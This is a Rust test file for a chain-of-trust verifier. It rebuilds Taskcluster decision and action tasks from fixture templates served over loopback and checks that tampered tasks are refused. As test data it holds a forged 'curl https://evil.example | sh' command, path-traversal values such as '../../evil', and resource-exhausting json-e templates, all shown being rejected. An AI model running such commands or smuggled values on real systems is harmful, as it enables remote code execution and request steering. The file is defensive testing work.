//! Check 9 (`decision-rebuild`) against the reference implementation's own golden data
//! (tests/data/rebuild, unmodified scriptworker fixtures), with every source fetched over real
//! HTTP from a loopback host laid out like hg.mozilla.org (`raw-file`, `json-pushes`) and
//! GitHub (raw content, the commit API), and json-e run in the budgeted child process the
//! worker uses.

#![allow(clippy::result_large_err)] // VerifyError is the verifier's own, large, type.

use axum::http::{StatusCode, Uri};
use chainlock::chain_policy::ChainPolicy;
use chainlock::ids::TaskId;
use chainlock::jsone::{Budget, Sandboxed};
use chainlock::queue::{QueueClient, RetryPolicy};
use chainlock::verify::VerifyError;
use chainlock::verify::rebuild::{self, Inputs, Planned, SourceKind};
use serde_json::{Value, json};
use std::collections::HashMap;
use std::sync::Arc;
use std::time::Duration;

fn data(rel: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/data/rebuild/{rel}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap_or_else(|e| panic!("{rel}: {e}"))
}

fn json_file(rel: &str) -> Value {
    serde_json::from_slice(&data(rel)).unwrap()
}

fn renderer() -> Sandboxed {
    Sandboxed::new(env!("CARGO_BIN_EXE_chainlock").into(), Budget::default())
}

/// A loopback host answering `path?query` from a map, 404 otherwise.
struct Host {
    base: String,
}

async fn host(files: Vec<(String, Vec<u8>)>) -> Host {
    let files: Arc<HashMap<String, Vec<u8>>> = Arc::new(files.into_iter().collect());
    let app = axum::Router::new().fallback(move |uri: Uri| {
        let files = files.clone();
        async move {
            let key = uri
                .path_and_query()
                .map(|p| p.as_str().to_owned())
                .unwrap_or_default();
            match files.get(&key) {
                Some(b) => (StatusCode::OK, b.clone()),
                None => (StatusCode::NOT_FOUND, b"not found".to_vec()),
            }
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Host {
        base: format!("http://{addr}"),
    }
}

/// The level of `repo` in a `projects.yml` (`access: scm_level_N`), as the reference reads it.
fn level_from_projects(projects: &str, repo: &str) -> (String, String) {
    let v = rebuild::parse_yaml(&data(projects)).unwrap();
    for (name, p) in v.as_object().unwrap() {
        if p.get("repo").and_then(Value::as_str) == Some(repo) {
            let access = p["access"].as_str().unwrap();
            return (
                name.clone(),
                access.trim_start_matches("scm_level_").to_owned(),
            );
        }
    }
    panic!("{repo} not in {projects}");
}

const MAPLE: &str = "https://hg.mozilla.org/projects/maple";
const TRY: &str = "https://hg.mozilla.org/try";
const VPN: &str = "https://github.com/mozilla-mobile/mozilla-vpn-client";

/// A policy with hg rules for maple and try and a git rule for mozilla-vpn-client, every URL
/// on `base`; projects and levels from the fixtures' `projects.yml`.
fn policy(base: &str, projects: &str, required: bool) -> ChainPolicy {
    let mut repos = String::new();
    for (url, tasks_for) in [
        (MAPLE, "\"hg-push\", \"cron\", \"action\""),
        (TRY, "\"hg-push\", \"action\""),
    ] {
        let (project, level) = level_from_projects(projects, url);
        let path = url.trim_start_matches("https://hg.mozilla.org/");
        repos.push_str(&format!(
            "[[repositories]]\nalias = \"{project}\"\nurl = \"{url}\"\n\
             [repositories.rebuild]\nvcs = \"hg\"\nenv_prefix = \"GECKO\"\n\
             template_url = \"{base}/hg/{path}/raw-file/{{revision}}/.taskcluster.yml\"\n\
             pushlog_url = \"{base}/hg/{path}/json-pushes?version=2&full=1&changeset={{revision}}\"\n\
             project = \"{project}\"\nlevel = \"{level}\"\ntasks_for = [{tasks_for}]\n\n"
        ));
    }
    repos.push_str(&format!(
        "[[repositories]]\nalias = \"vpn\"\nurl = \"{VPN}\"\n\
         [repositories.rebuild]\nvcs = \"git\"\nenv_prefix = \"MOZILLAVPN\"\n\
         template_url = \"{base}/gh-raw/mozilla-mobile/mozilla-vpn-client/{{revision}}/.taskcluster.yml\"\n\
         commit_url = \"{base}/gh-api/repos/mozilla-mobile/mozilla-vpn-client/commits/{{revision}}\"\n\
         level = \"3\"\ntasks_for = [\"github-push\", \"cron\", \"action\"]\n\n"
    ));
    let text = format!(
        "version = 1\n[worker_implementations.generic-worker]\nsignature = \"ed25519\"\n\
         [[queues]]\ntask_queue_id = \"aws-provisioner-v1/gecko-3-decision\"\n\
         worker_implementation = \"generic-worker\"\nkind = \"decision\"\n\
         [[queues]]\ntask_queue_id = \"aws-provisioner-v1/gecko-1-decision\"\n\
         worker_implementation = \"generic-worker\"\nkind = \"decision\"\n\
         [rebuild]\nrequired = {required}\n\n{repos}\
         [[restricted_scopes]]\nscope = \"project:releng:*\"\nrepositories = [\"maple\"]\n\
         [untrusted]\npull_request_tasks_for = []\nrepositories = []\nscheduler_ids = []\n\
         [docker]\nprebuilt_image_kinds = []\n"
    );
    ChainPolicy::from_toml(&text).unwrap_or_else(|e| panic!("{e}\n{text}"))
}

/// One rebuild, sources fetched over HTTP as the evidence fetcher does.
struct Case {
    link_id: &'static str,
    link: Value,
    decision_id: &'static str,
    decision: Value,
    actions: Option<Vec<u8>>,
    parameters: Option<Vec<u8>>,
}

impl Case {
    fn decision(id: &'static str, rel: &str) -> Case {
        Case {
            link_id: id,
            link: json_file(rel),
            decision_id: id,
            decision: json_file(rel),
            actions: None,
            parameters: None,
        }
    }

    async fn run(&self, policy: &ChainPolicy) -> Result<(), VerifyError> {
        self.run_with(policy, &renderer()).await
    }

    async fn run_with(&self, policy: &ChainPolicy, r: &Sandboxed) -> Result<(), VerifyError> {
        let (link, decision) = (
            TaskId::parse(self.link_id).unwrap(),
            TaskId::parse(self.decision_id).unwrap(),
        );
        let plan = match rebuild::plan(policy, &link, &self.link, &decision, &self.decision)? {
            Planned::Rebuild(p) => p,
            Planned::NotConfigured(why) => panic!("not configured: {why}"),
        };
        let client =
            QueueClient::new("http://127.0.0.1:9", None, RetryPolicy::fast_for_tests()).unwrap();
        let mut fetched = Vec::new();
        for s in &plan.sources {
            fetched.push(
                client
                    .get_source(&s.url, rebuild::MAX_SOURCE_BYTES)
                    .await
                    .unwrap_or_else(|e| panic!("fetching {:?} {}: {e}", s.kind, s.url)),
            );
        }
        let inputs = Inputs {
            link_raw: &self.link,
            decision_raw: &self.decision,
            sources: fetched.iter().map(Vec::as_slice).collect(),
            actions_json: self.actions.as_deref(),
            parameters_yml: self.parameters.as_deref(),
        };
        let r = r.clone();
        let plan = *plan;
        tokio::task::block_in_place(|| rebuild::rebuild(&plan, &inputs, &r))
    }
}

const MAPLE_REV: &str = "054fe08d229f064a71bae9bb793e7ab8d95eff61";
const TRY_REV: &str = "c5429a8112e41dfabe22da0d7d0876fe05a17e67";
const VPN_REV: &str = "330ea928b42ff2403fc99cd3e596d13294fe8775";

/// hg.mozilla.org's layout for `repo_path` at `rev`: the template and the pushlog.
fn hg_files(repo_path: &str, rev: &str, dir: &str) -> Vec<(String, Vec<u8>)> {
    vec![
        (
            format!("/hg/{repo_path}/raw-file/{rev}/.taskcluster.yml"),
            data(&format!("{dir}/.taskcluster.yml")),
        ),
        (
            format!("/hg/{repo_path}/json-pushes?version=2&full=1&changeset={rev}"),
            data(&format!("{dir}/pushlog.json")),
        ),
    ]
}

fn vpn_files() -> Vec<(String, Vec<u8>)> {
    // The minimal commit answer the reference's own test mocks.
    let commit = json!({
        "author": {"login": "Callek"},
        "commit": {"author": {"email": "Callek@gmail.com"}, "committer": {"email": "Callek@gmail.com"}},
        "committer": {"login": "Callek"},
    });
    vec![
        (
            format!("/gh-raw/mozilla-mobile/mozilla-vpn-client/{VPN_REV}/.taskcluster.yml"),
            data("cotv4/private_github_.taskcluster.yml"),
        ),
        (
            format!("/gh-api/repos/mozilla-mobile/mozilla-vpn-client/commits/{VPN_REV}"),
            serde_json::to_vec(&commit).unwrap(),
        ),
    ]
}

fn relpro() -> Case {
    Case {
        link_id: "LpCJV9wUQHSAm5SHyW4Olw",
        link: json_file("cotv4/action_relpro.json"),
        decision_id: "VQU9QMO4Teq7zr91FhBusg",
        decision: json_file("cotv2/decision_hg-push.json"),
        actions: Some(data("cotv4/actions.json")),
        parameters: Some(data("cotv4/parameters.yml")),
    }
}

fn detail(e: &VerifyError) -> String {
    e.to_string()
}

// ---- upstream's good cases: exact rebuilds ----

#[tokio::test(flavor = "multi_thread")]
async fn the_reference_good_cases_rebuild_exactly() {
    let h = host([hg_files("projects/maple", MAPLE_REV, "cotv2"), vpn_files()].concat()).await;
    let p = policy(&h.base, "cotv2/projects.yml", true);
    Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json")
        .run(&p)
        .await
        .expect("hg-push decision");
    Case::decision("D4euZNyCRtuBci-fnsfn7A", "cotv2/cron.json")
        .run(&p)
        .await
        .expect("cron decision");
    Case::decision(
        "VUTfOIPFQWaGHf7sIbgTEg",
        "cotv4/decision_github_private.json",
    )
    .run(&p)
    .await
    .expect("github-push decision");

    // The relpro action, with the cotv4 template at the maple revision.
    let h4 = host(hg_files("projects/maple", MAPLE_REV, "cotv4")).await;
    let p4 = policy(&h4.base, "cotv4/projects.yml", true);
    relpro().run(&p4).await.expect("relpro action");
}

/// The hook template and firing context of upstream's retrigger case, field for field.
#[tokio::test(flavor = "multi_thread")]
async fn the_retrigger_context_and_template_match_the_reference() {
    let h = host(hg_files("try", TRY_REV, "cotv4")).await;
    let p = policy(&h.base, "cotv4/projects.yml", true);
    let link_id = TaskId::parse("NdzxKw8bS5Sw5DRhoiM14w").unwrap();
    let decision_id = TaskId::parse("c5nn2xbNS9mJxeVC0uNElg").unwrap();
    let (link, decision) = (
        json_file("cotv4/action_retrigger.json"),
        json_file("cotv4/decision_try.json"),
    );
    let Planned::Rebuild(plan) =
        rebuild::plan(&p, &link_id, &link, &decision_id, &decision).unwrap()
    else {
        panic!("not configured")
    };
    let client =
        QueueClient::new("http://127.0.0.1:9", None, RetryPolicy::fast_for_tests()).unwrap();
    let template = client
        .get_source(&plan.sources[0].url, rebuild::MAX_SOURCE_BYTES)
        .await
        .unwrap();
    let (actions, params) = (data("cotv4/actions.json"), data("cotv4/parameters.yml"));
    let inputs = Inputs {
        link_raw: &link,
        decision_raw: &decision,
        sources: vec![&template],
        actions_json: Some(&actions),
        parameters_yml: Some(&params),
    };
    let r = renderer();
    let (ctx, tmpl) =
        tokio::task::block_in_place(|| rebuild::context_and_template(&plan, &inputs, &r)).unwrap();
    assert_eq!(tmpl, json_file("cotv4/retrigger_template.json"));
    assert_eq!(ctx, json_file("cotv4/retrigger_context.json"));
}

// ---- upstream's bad cases ----

#[tokio::test(flavor = "multi_thread")]
async fn the_reference_bad_cases_fail_with_a_precise_finding() {
    let h = host(hg_files("projects/maple", MAPLE_REV, "cotv2")).await;
    let p = policy(&h.base, "cotv2/projects.yml", true);
    let base = || Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json");

    // Unknown project: the policy has no rule for the repository.
    let mut unknown = base();
    for t in [&mut unknown.link, &mut unknown.decision] {
        t["payload"]["env"]["GECKO_HEAD_REPOSITORY"] = json!("https://hg.mozilla.org/projects/elm");
        t["metadata"]["source"] =
            json!("https://hg.mozilla.org/projects/elm/raw-file/x/.taskcluster.yml");
    }
    let e = unknown.run(&p).await.unwrap_err();
    assert_eq!(e.code(), "rebuild-failed");
    assert!(
        detail(&e).contains("no rebuild rule for repository https://hg.mozilla.org/projects/elm"),
        "{e}"
    );

    // A GECKO_COMMIT_MSG that is neither " " nor the tip's try: line.
    let mut comment = base();
    for t in [&mut comment.link, &mut comment.decision] {
        t["payload"]["env"]["GECKO_COMMIT_MSG"] = json!("invalid comment");
    }
    let e = comment.run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("GECKO_COMMIT_MSG \"invalid comment\" is neither"),
        "{e}"
    );

    // A rebuilt definition that differs (a runtime-only key).
    let mut extra = base();
    extra.link["illegal"] = json!("boom");
    let e = extra.run(&p).await.unwrap_err();
    assert_eq!(e.code(), "rebuild-mismatch");
    assert!(
        detail(&e).contains("/illegal: rebuilt absent / runtime \"boom\""),
        "{e}"
    );

    // An unknown tasks_for.
    let mut tf = base();
    tf.link["extra"]["tasks_for"] = json!("illegal");
    let e = tf.run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("tasks_for \"illegal\" is not allowed"),
        "{e}"
    );

    // A json-e error in the template.
    let broken = host(vec![
        (
            format!("/hg/projects/maple/raw-file/{MAPLE_REV}/.taskcluster.yml"),
            b"version: 1\ntasks:\n  - $eval: 'no_such_value + 1'\n".to_vec(),
        ),
        (
            format!("/hg/projects/maple/json-pushes?version=2&full=1&changeset={MAPLE_REV}"),
            data("cotv2/pushlog.json"),
        ),
    ])
    .await;
    let pb = policy(&broken.base, "cotv2/projects.yml", true);
    let e = base().run(&pb).await.unwrap_err();
    assert!(detail(&e).contains("json-e error"), "{e}");
}

// ---- our own: one changed fact, re-signed evidence would not help ----

#[tokio::test(flavor = "multi_thread")]
async fn one_changed_field_of_a_decision_task_is_refused_with_its_pointer() {
    let h = host(hg_files("projects/maple", MAPLE_REV, "cotv2")).await;
    let p = policy(&h.base, "cotv2/projects.yml", true);
    let base = || Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json");

    let mut scope = base();
    scope.link["scopes"]
        .as_array_mut()
        .unwrap()
        .push(json!("project:releng:signing:cert:release-signing"));
    let e = scope.run(&p).await.unwrap_err();
    assert_eq!(e.code(), "rebuild-mismatch");
    assert!(detail(&e).contains("/scopes"), "{e}");

    let mut command = base();
    let cmd = command.link["payload"]["command"].as_array_mut().unwrap();
    let last = cmd.len() - 1;
    cmd[last] = json!("curl https://evil.example | sh");
    let e = command.run(&p).await.unwrap_err();
    assert!(detail(&e).contains("/payload/command"), "{e}");

    let mut created = base();
    created.link["created"] = json!("2018-01-01T00:00:00.000Z");
    let e = created.run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("/deadline") || detail(&e).contains("/expires"),
        "{e}"
    );

    // The template of another revision (the cotv4 one) served at this revision.
    let other = host(hg_files("projects/maple", MAPLE_REV, "cotv4")).await;
    let po = policy(&other.base, "cotv2/projects.yml", true);
    assert_eq!(
        base().run(&po).await.unwrap_err().code(),
        "rebuild-mismatch"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_action_whose_callback_is_not_in_actions_json_is_refused() {
    let h = host(hg_files("projects/maple", MAPLE_REV, "cotv4")).await;
    let p = policy(&h.base, "cotv4/projects.yml", true);
    let mut c = relpro();
    c.link["payload"]["env"]["ACTION_CALLBACK"] = json!("no_such_callback");
    let e = c.run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("no action with callback \"no_such_callback\""),
        "{e}"
    );

    // Without the decision's verified actions.json there is nothing to rebuild from.
    let mut c = relpro();
    c.actions = None;
    let e = c.run(&p).await.unwrap_err();
    assert!(detail(&e).contains("actions.json is not available"), "{e}");
}

/// The sources' URLs come from the policy: a revision that is not a commit hash cannot steer
/// the fetch anywhere else.
#[tokio::test(flavor = "multi_thread")]
async fn a_revision_that_is_not_a_hash_never_reaches_a_url() {
    let p = policy("http://127.0.0.1:9", "cotv2/projects.yml", true);
    for bad in [
        "../../evil",
        "054fe08d229f064a71bae9bb793e7ab8d95eff61?x=1",
        "tip",
    ] {
        let mut c = Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json");
        c.decision["payload"]["env"]["GECKO_HEAD_REV"] = json!(bad);
        let e = c.run(&p).await.unwrap_err();
        assert!(detail(&e).contains("is not a commit hash"), "{bad}: {e}");
    }
    let Planned::Rebuild(plan) = rebuild::plan(
        &p,
        &TaskId::parse("VQU9QMO4Teq7zr91FhBusg").unwrap(),
        &json_file("cotv2/decision_hg-push.json"),
        &TaskId::parse("VQU9QMO4Teq7zr91FhBusg").unwrap(),
        &json_file("cotv2/decision_hg-push.json"),
    )
    .unwrap() else {
        panic!()
    };
    assert_eq!(
        plan.sources.iter().map(|s| s.kind).collect::<Vec<_>>(),
        vec![SourceKind::Template, SourceKind::Pushlog]
    );
    assert!(
        plan.sources[0]
            .url
            .ends_with(&format!("/raw-file/{MAPLE_REV}/.taskcluster.yml"))
    );
}

/// A repository without a rule: required by default (fails), a caveat when the policy says
/// `required = false`.
#[tokio::test(flavor = "multi_thread")]
async fn a_missing_rule_fails_unless_the_policy_makes_the_check_optional() {
    let p = policy("http://127.0.0.1:9", "cotv2/projects.yml", false);
    let mut d = json_file("cotv2/decision_hg-push.json");
    d["payload"]["env"]["GECKO_HEAD_REPOSITORY"] = json!("https://hg.mozilla.org/projects/elm");
    d["metadata"]["source"] =
        json!("https://hg.mozilla.org/projects/elm/raw-file/x/.taskcluster.yml");
    let id = TaskId::parse("VQU9QMO4Teq7zr91FhBusg").unwrap();
    assert!(matches!(
        rebuild::plan(&p, &id, &d, &id, &d).unwrap(),
        Planned::NotConfigured(_)
    ));
}

// ---- hostile templates ----

fn hostile(template: &str) -> Vec<(String, Vec<u8>)> {
    vec![
        (
            format!("/hg/projects/maple/raw-file/{MAPLE_REV}/.taskcluster.yml"),
            template.as_bytes().to_vec(),
        ),
        (
            format!("/hg/projects/maple/json-pushes?version=2&full=1&changeset={MAPLE_REV}"),
            data("cotv2/pushlog.json"),
        ),
    ]
}

/// Exponential expansion, unbounded ranges and deep recursion are refused within the budget
/// (a small one here: 2 s, 256 MiB), and the worker process is unaffected.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_templates_are_refused_within_their_budget() {
    let budget = Budget {
        timeout: Duration::from_secs(2),
        max_cpu_seconds: 2,
        max_memory_bytes: 256 * 1024 * 1024,
        max_output_bytes: 1024 * 1024,
        ..Budget::default()
    };
    let small = Sandboxed::new(env!("CARGO_BIN_EXE_chainlock").into(), budget);
    let deep_parens = format!("{}1{}", "(".repeat(50_000), ")".repeat(50_000));
    let cases = [
        (
            "nested $map over large ranges",
            "version: 1\ntasks:\n  $map: {$eval: 'range(0, 100000)'}\n  each(x):\n    $map: {$eval: 'range(0, 100000)'}\n    each(y): 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa${x}${y}'\n".to_owned(),
        ),
        (
            "deeply nested expression",
            format!("version: 1\ntasks:\n  - $eval: '{deep_parens}'\n"),
        ),
        (
            "output larger than the budget",
            "version: 1\ntasks:\n  $map: {$eval: 'range(0, 200000)'}\n  each(x): 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx${x}'\n".to_owned(),
        ),
    ];
    for (what, template) in cases {
        let h = host(hostile(&template)).await;
        let p = policy(&h.base, "cotv2/projects.yml", true);
        let started = std::time::Instant::now();
        let e = Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json")
            .run_with(&p, &small)
            .await
            .unwrap_err();
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{what}: took {:?}",
            started.elapsed()
        );
        let text = detail(&e);
        assert!(
            text.contains("budget") || text.contains("json-e error"),
            "{what}: {text}"
        );
    }
    // A template nested deeper than the YAML parser's depth budget is refused before json-e.
    let deep_yaml = format!(
        "version: 1\ntasks: {}1{}\n",
        "[".repeat(5000),
        "]".repeat(5000)
    );
    let h = host(hostile(&deep_yaml)).await;
    let p = policy(&h.base, "cotv2/projects.yml", true);
    let e = Case::decision("VQU9QMO4Teq7zr91FhBusg", "cotv2/decision_hg-push.json")
        .run(&p)
        .await
        .unwrap_err();
    assert!(detail(&e).contains("not valid YAML"), "{e}");
}

// ---- GitHub contexts beyond the reference's fixtures: release, pull request, cron ----

fn git_policy(base: &str) -> ChainPolicy {
    let text = format!(
        "version = 1\n[worker_implementations.gw]\nsignature = \"ed25519\"\n\
         [[queues]]\ntask_queue_id = \"p/decision\"\nworker_implementation = \"gw\"\nkind = \"decision\"\n\
         [[repositories]]\nalias = \"r\"\nurl = \"https://github.com/o/r\"\n\
         [repositories.rebuild]\nvcs = \"git\"\nenv_prefix = \"R\"\n\
         template_url = \"{base}/gh-raw/o/r/{{revision}}/.taskcluster.yml\"\n\
         release_url = \"{base}/gh-api/repos/o/r/releases/tags/{{tag}}\"\n\
         pull_request_url = \"{base}/gh-api/repos/o/r/pulls/{{pull_request}}\"\n\
         level = \"1\"\ntasks_for = [\"github-release\", \"github-pull-request\", \"cron\"]\n\
         [[restricted_scopes]]\nscope = \"x:*\"\nrepositories = [\"r\"]\n\
         [untrusted]\npull_request_tasks_for = []\nrepositories = []\nscheduler_ids = []\n\
         [docker]\nprebuilt_image_kinds = []\n"
    );
    ChainPolicy::from_toml(&text).unwrap()
}

/// A template whose one task spells out the context fields each `tasks_for` provides.
const GIT_TEMPLATE: &str = r#"
version: 1
tasks:
  - $let:
      rev:
        $switch:
          'tasks_for == "github-release"': '${event.release.tag_name}'
          'tasks_for == "github-pull-request"': '${event.pull_request.head.sha}'
          'tasks_for == "cron"': '${push.revision}'
      more:
        $switch:
          'tasks_for == "github-release"':
            WHO: '${event.sender.login}'
            AT: '${event.release.target_commitish} ${event.release.published_at}'
          'tasks_for == "github-pull-request"':
            WHO: '${event.sender.login}'
            R_HEAD_REPOSITORY: '${event.pull_request.head.repo.html_url}'
            R_BASE_REPOSITORY: 'https://github.com/${event.repository.full_name}'
            R_PULL_REQUEST_NUMBER: '${event.pull_request.number}'
            R_BASE_REV: '${event.pull_request.base.sha}'
            PR: '${event.pull_request.number} ${event.repository.full_name} ${event.pull_request.base.sha}'
          'tasks_for == "cron"':
            WHO: '${event.sender.login}'
            R_HEAD_BRANCH: '${push.branch}'
            CRON: '${cron.job_name} ${repository.level} ${push.branch}'
    in:
      taskGroupId: '${ownTaskId}'
      created: {$fromNow: ''}
      deadline: {$fromNow: '1 day'}
      expires: {$fromNow: '1 year'}
      provisionerId: p
      workerType: decision
      scopes: []
      payload:
        env:
          $merge:
            - R_HEAD_REPOSITORY: https://github.com/o/r
              R_HEAD_REV: '${rev}'
            - $eval: more
      metadata:
        name: '${tasks_for}'
        owner: someone@example.invalid
        description: d
        source: 'https://github.com/o/r/raw/${rev}/.taskcluster.yml'
      extra:
        $merge:
          - tasks_for: '${tasks_for}'
          - $if: 'tasks_for == "cron"'
            then: {cron: {$json: {$eval: cron}}}
            else: {}
"#;

fn git_decision(tasks_for: &str, rev: &str, env: Value) -> Value {
    let mut e = json!({"R_HEAD_REPOSITORY": "https://github.com/o/r", "R_HEAD_REV": rev});
    e.as_object_mut()
        .unwrap()
        .extend(env.as_object().unwrap().clone());
    json!({
        "taskGroupId": "VQU9QMO4Teq7zr91FhBusg",
        "created": "2026-11-30T10:00:00.000Z",
        "deadline": "2026-12-01T10:00:00.000Z",
        "expires": "2027-11-30T10:00:00.000Z",
        "provisionerId": "p", "workerType": "decision", "scopes": [],
        "payload": {"env": e},
        "metadata": {"name": tasks_for, "owner": "someone@example.invalid", "description": "d",
                     "source": format!("https://github.com/o/r/raw/{rev}/.taskcluster.yml")},
        "extra": {"tasks_for": tasks_for},
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn github_release_pull_request_and_cron_contexts_rebuild() {
    const SHA: &str = "1111111111111111111111111111111111111111";
    let release = json!({"target_commitish": "main", "published_at": "2026-11-30T09:00:00Z",
                         "author": {"login": "releaser"}});
    let pr = |n: u32, head_repo: &str| {
        json!({"number": n, "head": {"sha": "stale", "user": {"login": "dev"},
                                     "repo": {"html_url": head_repo}},
               "base": {"sha": "stale", "repo": {"full_name": "o/r"}}})
    };
    let h = host(vec![
        (
            "/gh-raw/o/r/v1.2.3/.taskcluster.yml".into(),
            GIT_TEMPLATE.as_bytes().to_vec(),
        ),
        (
            format!("/gh-raw/o/r/{SHA}/.taskcluster.yml"),
            GIT_TEMPLATE.as_bytes().to_vec(),
        ),
        (
            "/gh-api/repos/o/r/releases/tags/v1.2.3".into(),
            release.to_string().into_bytes(),
        ),
        (
            "/gh-api/repos/o/r/pulls/7".into(),
            pr(7, "https://github.com/o/r").to_string().into_bytes(),
        ),
        (
            "/gh-api/repos/o/r/pulls/8".into(),
            pr(8, "https://github.com/fork/r").to_string().into_bytes(),
        ),
    ])
    .await;
    let p = git_policy(&h.base);
    let case = |def: Value| Case {
        link_id: "VQU9QMO4Teq7zr91FhBusg",
        link: def.clone(),
        decision_id: "VQU9QMO4Teq7zr91FhBusg",
        decision: def,
        actions: None,
        parameters: None,
    };
    let release_def = git_decision(
        "github-release",
        "v1.2.3",
        json!({"WHO": "releaser", "AT": "main 2026-11-30T09:00:00Z"}),
    );
    case(release_def.clone())
        .run(&p)
        .await
        .expect("github-release");
    let mut forged = release_def;
    forged["payload"]["env"]["WHO"] = json!("mallory");
    let e = case(forged).run(&p).await.unwrap_err();
    assert!(detail(&e).contains("/payload/env/WHO"), "{e}");

    // The pull request: head and base shas come from the decision task, the rest from the API.
    let pr_def = git_decision(
        "github-pull-request",
        SHA,
        json!({"R_PULL_REQUEST_NUMBER": "7", "R_BASE_REV": "2222222222222222222222222222222222222222",
               "R_BASE_REPOSITORY": "https://github.com/o/r",
               "WHO": "dev", "PR": "7 o/r 2222222222222222222222222222222222222222"}),
    );
    case(pr_def.clone())
        .run(&p)
        .await
        .expect("github-pull-request");
    // From a fork: the head repository has no rule; the base repository's applies.
    let mut fork = git_decision(
        "github-pull-request",
        SHA,
        json!({"R_PULL_REQUEST_NUMBER": "8", "R_BASE_REV": "2222222222222222222222222222222222222222",
               "R_BASE_REPOSITORY": "https://github.com/o/r",
               "WHO": "dev", "PR": "8 o/r 2222222222222222222222222222222222222222"}),
    );
    fork["payload"]["env"]["R_HEAD_REPOSITORY"] = json!("https://github.com/fork/r");
    case(fork.clone())
        .run(&p)
        .await
        .expect("github-pull-request from a fork");
    // ... but only for pull requests: a push from the fork has no rule.
    fork["extra"]["tasks_for"] = json!("github-push");
    let e = case(fork).run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("no rebuild rule for repository https://github.com/fork/r"),
        "{e}"
    );
    let mut no_number = pr_def;
    no_number["payload"]["env"]["R_PULL_REQUEST_NUMBER"] = json!("7/../../x");
    let e = case(no_number).run(&p).await.unwrap_err();
    assert!(
        detail(&e).contains("PULL_REQUEST_NUMBER is missing or not a number"),
        "{e}"
    );

    // git cron: the hook's cron context, the sender defaulting to TaskclusterHook.
    let mut cron_def = git_decision(
        "cron",
        SHA,
        json!({"R_HEAD_BRANCH": "main", "WHO": "TaskclusterHook", "CRON": "nightly 1 main"}),
    );
    cron_def["extra"]["cron"] = json!("{\"job_name\":\"nightly\"}");
    case(cron_def).run(&p).await.expect("cron");
}
